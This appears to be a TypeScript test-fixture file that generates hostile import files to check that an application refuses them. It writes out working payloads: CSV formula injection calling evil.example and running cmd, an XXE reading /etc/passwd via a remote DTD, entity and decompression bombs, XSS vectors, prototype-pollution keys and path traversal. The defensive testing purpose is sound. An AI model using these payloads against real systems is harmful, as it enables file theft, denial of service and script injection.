import { deflateRawSync } from 'node:zlib';
import { type Hostile, hostile, mark, markup, refused } from './file.ts';

const evil = 'https://evil.example';

/** Tables, which are not read: they are refused in words, and nothing in them runs. */
const tables: readonly Hostile[] = [
  hostile(
    '45-formulas.csv',
    'cells that spreadsheets run',
    refused('not json'),
    `step,owner,system\r\n"=HYPERLINK(""${evil}/?""&A1,""click"")",+1+1,@SUM(A1)\r\n"=cmd|'/C calc'!A0",-2+3,"\t=1+1"\r\n" =1+1","\r=1+1",＝1+1\r\n`,
  ),
  hostile('46-unbalanced-quotes.csv', 'a quote never closed', refused('not json'), 'step,owner\n"Take order,Ann\n'),
  hostile(
    '47-semicolon-latin1.csv',
    'German Excel, not UTF-8',
    refused('not text'),
    Uint8Array.from(Buffer.from('Schritt;Zeit\r\nPr\u00fcfung;1,5\r\n', 'latin1')),
  ),
  hostile(
    '48-mixed-newlines.csv',
    'every sort of line end, and NUL',
    refused('not text'),
    'step,owner\rTake,Ann\nCheck,"Bob\r\nand\nCo"\r\n\u0000,x,y,z,extra\nlonely\n,,,\n',
  ),
  hostile('49-huge-cell.csv', 'one cell of 2 MB', refused('not json'), `step,owner\nA,${'x'.repeat(2_000_000)}\n`),
  hostile(
    '50-wide.csv',
    '20,000 columns',
    refused('not json'),
    `${Array.from({ length: 20_000 }, (_, i) => `c${i}`).join(',')}\n`,
  ),
  hostile(
    '51-proto-headers.csv',
    'columns named like what every object has',
    refused('not json'),
    '\ufeff__proto__,constructor,step,step,,toString\n{"polluted":1},x,A,B,C,D\n',
  ),
  hostile(
    '52-excel-paste.html',
    'a pasted table with scripts, remote pictures and endless cells',
    refused('html'),
    `<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><style>td{background:url(${evil}/css)}</style></head><body><table><tr><td colspan=100000 rowspan=100000 onclick="${mark('paste')}">Take order</td><td><script>${mark('paste')}</script>Ann<img src="${evil}/p.png" onerror="${mark('paste')}"></td></tr></table></body></html>`,
  ),
  hostile(
    '53-paste.tsv',
    '2,000 rows',
    refused('not json'),
    Array.from({ length: 2000 }, (_, i) => `Step ${i}\t"Owner ""${i}"""\t=1+${i}\t\t`).join('\r\n'),
  ),
];

const bpmn = (body: string, before = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${before}<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">${body}</bpmn:definitions>`;
const attribute = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const entities = Array.from(
  { length: 10 },
  (_, i) => `<!ENTITY l${i} "${i === 0 ? 'lol' : `&l${i - 1};`.repeat(10)}">`,
).join('');
const drawio = (page: Uint8Array): string =>
  `<mxfile><diagram id="a" name="P">${Buffer.from(deflateRawSync(page, { level: 9 })).toString('base64')}</diagram></mxfile>`;

/** Diagrams of other programs. Nothing of them is read but the first tag. */
const xml: readonly Hostile[] = [
  hostile(
    '54-billion-laughs.bpmn',
    'entities in entities',
    refused('doctype'),
    bpmn('<bpmn:process id="p" name="&l9;"/>', `<!DOCTYPE x [${entities}]>`),
  ),
  hostile(
    '55-quadratic.bpmn',
    'one long entity used 2,000 times: 100 MB for a careless reader',
    refused('doctype'),
    bpmn(
      `<bpmn:process id="p">${'&a;'.repeat(2000)}</bpmn:process>`,
      `<!DOCTYPE x [<!ENTITY a "${'A'.repeat(50_000)}">]>`,
    ),
  ),
  hostile(
    '56-xxe.bpmn',
    'entities from elsewhere',
    refused('doctype'),
    bpmn(
      '<bpmn:process id="p" name="&e;"/>',
      `<!DOCTYPE x SYSTEM "${evil}/x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "${evil}/p"> %p;]>`,
    ),
  ),
  hostile(
    '57-xss.bpmn',
    'markup in names and texts',
    refused('bpmn'),
    bpmn(
      markup
        .map((text, i) => `<bpmn:task id="t${i}" name="${attribute(text)}"><![CDATA[${text}]]></bpmn:task>`)
        .join(''),
    ),
  ),
  hostile(
    '58-dangling.bpmn',
    'ids twice and links to nowhere',
    refused('bpmn'),
    bpmn('<bpmn:task id="t"/><bpmn:task id="t"/><bpmn:sequenceFlow id="f" sourceRef="t" targetRef="ghost"/>'),
  ),
  hostile(
    '59-deep.bpmn',
    '12,000 levels',
    refused('bpmn'),
    bpmn(`${'<bpmn:subProcess id="s">'.repeat(12_000)}${'</bpmn:subProcess>'.repeat(12_000)}`),
  ),
  hostile(
    '60-archimate-remote.xml',
    'style sheet, include and schema from elsewhere',
    refused('doctype'),
    `<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="${evil}/x.xsl"?><model xmlns="http://www.opengroup.org/xsd/archimate/3.0/"><name>${attribute(markup[0] ?? '')}</name></model>`,
  ),
  hostile(
    '61-xhtml-namespace.xml',
    'elements of a page inside XML',
    refused('xml'),
    `<model xmlns="urn:x"><name>ok</name><h:script xmlns:h="http://www.w3.org/1999/xhtml">${mark('xhtml')}</h:script></model>`,
  ),
  hostile(
    '62-encoding-lie.bpmn',
    'says UTF-16 and is UTF-8; holds UTF-7',
    refused('xml'),
    '<?xml version="1.0" encoding="UTF-16"?><a name="+ADw-script+AD4-"/>',
  ),
  hostile(
    '63-drawio-xss.drawio',
    'packed page with markup and links that run',
    refused('drawio'),
    drawio(
      Buffer.from(
        encodeURIComponent(
          `<mxCell value="${attribute(markup[0] ?? '')}" style="html=1;link=javascript:${mark('dio')}"/>`,
        ),
      ),
    ),
  ),
  hostile(
    '64-drawio-bomb.drawio',
    'a page that unfolds to 60 MB',
    refused('drawio'),
    drawio(Buffer.alloc(60_000_000, 65)),
  ),
];

/** Lines that a link to this page could carry behind its `#` or `?`; as a file they are nothing. */
export const fragments: readonly string[] = [
  '#map=',
  '#map=%%%',
  '#map=AAAA',
  `#map=${'A'.repeat(20_000)}`,
  `#map=${Buffer.from('{"__proto__":{"polluted":1}}').toString('base64url')}`,
  '#room=../../admin',
  '#room=a,short',
  `#"><img src=x onerror=${mark('fragment')}>`,
  '#__proto__[polluted]=1',
  `?map=${evil}/m.json`,
];

export const foreignFiles: readonly Hostile[] = [
  ...tables,
  ...xml,
  hostile('77-fragments.txt', 'lines of links', refused('not json'), fragments.join('\n')),
];
